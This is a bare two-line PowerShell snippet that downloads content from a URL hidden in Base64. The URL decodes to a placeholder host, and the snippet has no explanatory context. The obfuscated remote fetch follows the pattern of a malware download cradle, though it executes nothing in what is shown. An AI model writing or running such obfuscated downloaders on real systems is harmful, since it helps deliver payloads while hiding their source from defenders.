$wc = New-Object System.Net.WebClient
$wc.DownloadString([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('aAB0AHQAcAA6AC8ALwBhAC4AZQB4AGEAbQBwAGwAZQAvAHAALwB4AC4AdAB4AHQA')))
